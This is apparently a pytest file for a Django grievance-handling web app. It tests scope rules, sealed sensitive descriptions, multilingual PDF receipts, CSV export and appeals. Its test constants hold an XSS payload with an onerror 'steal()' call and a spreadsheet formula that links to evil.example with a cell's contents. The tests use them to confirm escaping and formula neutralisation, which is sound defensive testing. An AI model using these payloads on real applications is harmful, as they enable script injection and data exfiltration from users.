"""The officers' grievance pages: the list (filters, overdue first, scope), a new grievance, a grievance's page
(steps, deadlines, actions confirmed, the sealed description), the dashboard, the receipt (PDF, three languages)
and the CSV export. Hostile text is text everywhere: on the page, in the PDF, in the CSV."""

import csv
import datetime
import io
import subprocess

import pytest
from django.utils import timezone

from grievances.models import Grievance
from grievances.services import grievance_receive
from landreg import roles
from landreg.models import PersonalDataAccess
from landreg.services import user_create

SCRIPT = '<script>alert("x")</script><img src=x onerror="steal()">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def focal(users, provinces):
    return user_create(
        username="focal.n", password="x", roles=[roles.GRIEVANCE_FOCAL_POINT], provinces=[provinces["nangarhar"]]
    )


@pytest.fixture
def officer(users):
    return users["officer_nangarhar"]


def receive(officer, plot, **fields):
    values = {"channel": "office", "category": "other", "description": "The road is blocked.", **fields}
    return grievance_receive(by=officer, plot=plot, **values)


def page(client, user, url, data=None, method="get"):
    client.force_login(user)
    response = getattr(client, method)(url, data or {})
    assert response.status_code < 500
    return response


def text(response) -> str:
    return response.content.decode()


def test_the_list_shows_overdue_first_and_only_the_officers_provinces(client, officer, users, plots):
    fresh = receive(officer, plots[0], description="Fresh.")
    late = receive(officer, plots[1], received_at=timezone.now() - datetime.timedelta(days=5))
    later = receive(officer, plots[2], received_at=timezone.now() - datetime.timedelta(days=40))
    html = text(page(client, officer, "/grievances/"))
    order = [html.index(g.reference) for g in (later, late, fresh)]
    assert order == sorted(order), "the most overdue first, then the others"
    assert "days overdue" in html
    assert fresh.reference not in text(page(client, users["officer_herat"], "/grievances/"))
    only_late = text(page(client, officer, "/grievances/", {"overdue": "on"}))
    assert late.reference in only_late and fresh.reference not in only_late
    bad = page(client, officer, "/grievances/", {"status": "lost"})
    assert bad.status_code == 400 and "Select a valid choice" in text(bad)


def test_roles_without_grievances_are_refused_and_the_menu_shows_them_to_officers(client, users, officer):
    for role in ("gis", "partner"):
        for url in ("/grievances/", "/grievances/new/", "/grievances/dashboard/", "/grievances/export.csv"):
            assert page(client, users[role], url).status_code == 403, (role, url)
    assert 'href="/grievances/"' in text(page(client, officer, "/households/"))
    client.logout()
    assert client.get("/grievances/").status_code == 302  # to the login page


def test_recording_a_grievance_from_the_page(client, officer, plots, make_household, township):
    household = make_household()
    form = page(client, officer, "/grievances/new/", {"plot": plots[1].pk})
    assert f'value="{plots[1].number}"' in text(form)  # the map's link names the plot
    sent = page(
        client,
        officer,
        "/grievances/new/",
        {
            "channel": "hotline",
            "category": "shelter_payment",
            "household": household.code,
            "township": township.pk,
            "plot_number": "1",
            "description": SCRIPT,
            "language": "fa",
            "consent_to_share": "on",
        },
        method="post",
    )
    assert sent.status_code == 302, text(sent)
    grievance = Grievance.objects.get()
    assert sent["Location"] == f"/grievances/{grievance.reference}/"
    assert (grievance.plot, grievance.household, grievance.language) == (plots[1], household, "fa")
    assert grievance.consent_to_share and grievance.description == SCRIPT
    detail = text(page(client, officer, sent["Location"]))
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in detail and SCRIPT not in detail
    assert "onerror=" not in detail.replace("onerror=&quot;", "")
    assert f"Grievance {grievance.reference} recorded" in detail


def test_a_new_grievance_names_only_what_is_in_scope(client, officer, plots, make_household, township):
    elsewhere = make_household(province="herat")
    base = {"channel": "office", "category": "other", "description": "x", "language": "en"}
    refused = page(client, officer, "/grievances/new/", {**base, "household": elsewhere.code}, method="post")
    assert refused.status_code == 400 and "No household with the code" in text(refused)
    no_plot = page(
        client, officer, "/grievances/new/", {**base, "township": township.pk, "plot_number": "99"}, method="post"
    )
    assert no_plot.status_code == 400 and "has no plot 99" in text(no_plot)
    dispute = page(client, officer, "/grievances/new/", {**base, "category": "land_dispute"}, method="post")
    assert dispute.status_code == 400  # opened from the plot on the map
    nowhere = page(client, officer, "/grievances/new/", base, method="post")
    assert nowhere.status_code == 400 and "Say which province" in text(nowhere)
    assert not Grievance.objects.exists()


def test_the_detail_page_takes_steps_each_confirmed_and_says_what_happened(client, officer, plots):
    grievance = receive(officer, plots[0])
    url = f"/grievances/{grievance.reference}/"
    html = text(page(client, officer, url))
    assert 'data-action="acknowledge"' in html and 'data-action="close"' not in html
    assert "Records that the complainant was told" in html and "Confirm: Acknowledge" in html
    done = page(client, officer, url, {"action": "acknowledge", "acknowledge-note": "Phoned."}, method="post")
    assert done.status_code == 302
    html = text(page(client, officer, url))
    assert f"Grievance {grievance.reference} acknowledged. Next: review it." in html
    assert "Phoned." in html and 'data-action="review"' in html
    out_of_order = page(client, officer, url, {"action": "close"}, method="post")
    assert out_of_order.status_code == 400 and "cannot be taken on this grievance now" in text(out_of_order)
    no_outcome = page(client, officer, url, {"action": "resolve", "resolve-note": ""}, method="post")
    assert no_outcome.status_code == 400 and "This field is required" in text(no_outcome)
    resolved = page(client, officer, url, {"action": "resolve", "resolve-note": "Road cleared."}, method="post")
    assert resolved.status_code == 302
    page(client, officer, url, {"action": "close_loop", "close_loop-note": "Told."}, method="post")
    grievance.refresh_from_db()
    assert grievance.status == "resolved" and grievance.loop_closed_at is not None
    html = text(page(client, officer, url))
    assert "loop closed" in html and [s for s in ("Received", "Acknowledged", "Resolved") if s not in html] == []


def test_assigning_an_owner_from_the_page(client, officer, plots, focal):
    grievance = receive(officer, plots[0])
    url = f"/grievances/{grievance.reference}/"
    assert "focal.n" in text(page(client, officer, url))  # offered as an owner of the province
    page(client, officer, url, {"action": "assign", "assign-to": focal.pk}, method="post")
    grievance.refresh_from_db()
    assert grievance.assigned_to == focal


def test_a_sensitive_description_is_shown_to_the_focal_point_only(client, officer, plots, focal):
    grievance = receive(officer, plots[0], category="sea", description=SCRIPT)
    url = f"/grievances/{grievance.reference}/"
    officer_sees = text(page(client, officer, url))
    assert "Sealed: only the grievance focal point reads this description." in officer_sees
    assert "alert" not in officer_sees
    focal_sees = text(page(client, focal, url))
    assert "&lt;script&gt;alert" in focal_sees and "Sealed:" not in focal_sees
    assert PersonalDataAccess.objects.filter(user=focal, what="grievances.Grievance.description").exists()


def test_a_grievance_out_of_scope_is_not_found(client, users, officer, plots):
    grievance = receive(officer, plots[0])
    assert page(client, users["officer_herat"], f"/grievances/{grievance.reference}/").status_code == 404
    assert page(client, users["officer_herat"], f"/grievances/{grievance.reference}/receipt.pdf").status_code == 404
    assert page(client, officer, "/grievances/G-AAAA-AAAA/").status_code == 404
    other_province = page(client, users["officer_herat"], "/grievances/export.csv")
    assert other_province.status_code == 200 and grievance.reference not in other_province.content.decode()
    assert grievance.reference not in text(page(client, users["officer_herat"], "/grievances/dashboard/"))


def pdf_text(content: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True, check=True).stdout.decode()


@pytest.mark.parametrize("language,title", [("en", "Grievance receipt"), ("fa", "رسید شکایت"), ("ps", "د شکایت رسید")])
def test_the_receipt_in_three_languages_prints_hostile_text_as_text(client, officer, plots, language, title):
    grievance = receive(officer, plots[0], description=SCRIPT)
    response = page(client, officer, f"/grievances/{grievance.reference}/receipt.pdf", {"language": language})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    printed = pdf_text(response.content)
    assert grievance.reference in printed and title in printed
    assert '<script>alert("x")</script>' in printed  # the words as typed, not markup
    assert "/complaint-status/" in printed


def test_a_sensitive_receipt_names_neither_the_category_nor_the_words(client, focal, plots):
    grievance = receive(focal, plots[0], category="sea", description="He asked for a favour.")
    printed = pdf_text(page(client, focal, f"/grievances/{grievance.reference}/receipt.pdf").content)
    assert grievance.reference in printed and "Confidential" in printed
    assert "favour" not in printed and "exploitation" not in printed.lower()


def test_a_receipt_in_another_language_is_refused_with_a_sentence(client, officer, plots):
    grievance = receive(officer, plots[0])
    refused = page(client, officer, f"/grievances/{grievance.reference}/receipt.pdf", {"language": "de"})
    assert refused.status_code == 400 and "en, fa or ps" in text(refused)


def test_the_csv_neutralises_formulas_keeps_html_as_text_and_seals(client, officer, plots, focal):
    receive(officer, plots[0], description=FORMULA)
    receive(officer, plots[1], description=SCRIPT)
    receive(officer, plots[2], category="staff_conduct", description="The clerk took money.")
    response = page(client, officer, "/grievances/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    descriptions = {row["description"] for row in rows}
    assert "'" + FORMULA in descriptions and FORMULA not in descriptions
    assert SCRIPT in descriptions  # text, exactly as typed: a CSV is not HTML
    assert "[sealed]" in descriptions and "clerk" not in response.content.decode()
    assert PersonalDataAccess.objects.filter(user=officer, action="export").exists()
    filtered = page(client, officer, "/grievances/export.csv", {"category": "staff_conduct"})
    assert len(list(csv.DictReader(io.StringIO(filtered.content.decode())))) == 1


def test_the_dashboard_counts_by_category_status_age_and_province(client, officer, plots):
    late = receive(officer, plots[0], received_at=timezone.now() - datetime.timedelta(days=10))
    receive(officer, plots[1], category="shelter_payment")
    html = text(page(client, officer, "/grievances/dashboard/"))
    assert late.reference in html.split('id="by-province"')[0]  # in the overdue table, first
    assert 'data-category="other"' in html and 'data-band="7_to_30_days"' in html
    assert "Nangarhar" in html and 'id="total-overdue">1<' in html


def test_pages_in_dari_are_right_to_left_with_shamsi_dates(client, officer, plots):
    grievance = receive(officer, plots[0], received_at=timezone.now() - datetime.timedelta(days=5))
    client.force_login(officer)
    for url in ("/grievances/", f"/grievances/{grievance.reference}/", "/grievances/dashboard/", "/grievances/new/"):
        html = client.get(url, HTTP_ACCEPT_LANGUAGE="fa").content.decode()
        assert 'dir="rtl"' in html, url
    html = client.get(f"/grievances/{grievance.reference}/", HTTP_ACCEPT_LANGUAGE="fa").content.decode()
    assert "۱۴۰" in html  # a Shamsi year in Dari digits


def test_hostile_input_on_the_pages_gets_a_sentence_never_a_500(client, officer, plots, township):
    base = {"channel": "office", "category": "other", "language": "en", "township": township.pk, "plot_number": "0"}
    nul = page(client, officer, "/grievances/new/", {**base, "description": "a\x00b"}, method="post")
    assert nul.status_code == 400 and "Null characters are not allowed" in text(nul)
    long = page(client, officer, "/grievances/new/", {**base, "description": "x" * 6000}, method="post")
    assert long.status_code == 400 and "at most 5000 characters" in text(long)
    assert page(client, officer, "/grievances/G-AAAA%00AAAA/").status_code == 404
    assert page(client, officer, "/grievances/export.csv", {"category": "x\x00"}).status_code == 400
    grievance = receive(officer, plots[0])
    url = f"/grievances/{grievance.reference}/"
    unknown = page(client, officer, url, {"action": "delete"}, method="post")
    assert unknown.status_code == 400 and "cannot be taken" in text(unknown)
    assert not Grievance.objects.exclude(pk=grievance.pk).exists()


def test_an_appeal_is_lodged_decided_and_checked_from_the_pages(
    client, officer, users, plots, make_household, provinces
):
    from allocations.services import allocation_propose, allocation_transition

    committee = users["committee"]
    second, third = (
        user_create(username=name, password="x", roles=[roles.COMMITTEE_MEMBER], provinces=[provinces["nangarhar"]])
        for name in ("committee.n2", "committee.n3")
    )
    allocation = allocation_propose(household=make_household(), plot=plots[0], proposed_by=officer)
    allocation = allocation_transition(allocation=allocation, action="reject", by=committee, reason="Holds land.")
    base = {"channel": "office", "category": "appeal", "description": "We hold no land.", "language": "en"}
    without = page(client, officer, "/grievances/new/", base, method="post")
    assert without.status_code == 400 and "Choose the allocation whose refusal" in text(without)
    sent = page(client, officer, "/grievances/new/", {**base, "allocation": allocation.pk}, method="post")
    assert sent.status_code == 302, text(sent)
    url = sent["Location"]
    page(client, officer, url, {"action": "acknowledge"}, method="post")
    assert 'data-action="decide_appeal"' not in text(page(client, committee, url))  # who decided what is appealed
    decision = {"action": "decide_appeal", "decide_appeal-decision": "upheld", "decide_appeal-note": "No land."}
    decided = page(client, second, url, decision, method="post")
    assert decided.status_code == 302
    assert 'data-action="check_appeal"' not in text(page(client, second, url))  # maker-checker
    checked = page(client, third, url, {"action": "check_appeal"}, method="post")
    assert checked.status_code == 302
    html = text(page(client, third, url))
    assert "checked: the decision counts" in html and "committee.n3" in html
    assert Grievance.objects.get(category="appeal").status == "resolved"


def test_a_land_dispute_recorded_from_the_page_holds_its_plot(client, officer, plots, township):
    from townships.models import Plot

    base = {"channel": "office", "category": "land_dispute", "description": "Our wall.", "language": "en"}
    sent = page(
        client, officer, "/grievances/new/", {**base, "township": township.pk, "plot_number": "1"}, method="post"
    )
    assert sent.status_code == 302, text(sent)
    assert Plot.objects.get(pk=plots[1].pk).status == "disputed"
    html = text(page(client, officer, sent["Location"]))
    assert 'id="dispute"' in html and "not drawn" in html


OFFERED = '<details class="action" data-action="open_dispute"'


def test_a_land_dispute_heard_in_the_field_is_opened_from_its_page(client, officer, plots, field_officer):
    heard = receive(field_officer, plots[1], category="land_dispute", channel="field_visit")
    url = f"/grievances/{heard.reference}/"
    assert OFFERED not in text(page(client, field_officer, url))
    assert OFFERED in text(page(client, officer, url))

    done = page(client, officer, url, {"action": "open_dispute", "open_dispute-note": "Seen."}, method="post")

    assert done.status_code == 302
    plots[1].refresh_from_db()
    assert plots[1].status == "disputed"
    html = text(page(client, officer, url))
    assert f"Land dispute {heard.reference} opened" in html and OFFERED not in html
    again = page(client, officer, url, {"action": "open_dispute"}, method="post")
    assert again.status_code == 400 and plots[1].land_disputes.count() == 1
